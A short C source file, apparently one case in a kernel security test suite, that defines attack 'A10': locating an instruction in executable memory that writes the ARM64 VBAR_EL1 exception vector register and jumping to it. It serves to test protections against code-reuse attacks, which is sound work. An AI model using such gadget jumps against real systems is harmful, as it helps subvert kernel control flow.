// SPDX-License-Identifier: GPL-2.0-only
/* A10: find a write of VBAR_EL1 in executable memory and jump there. */
#include <asm/sysreg.h>

#include "attack.h"

static const struct word word = { "MSR VBAR_EL1", MSR(SYS_VBAR_EL1) };

static void jump(void)
{
	jump_to_write(&word, read_sysreg(vbar_el1));
}

DONJON_ATTACK("A10", "jump", jump);
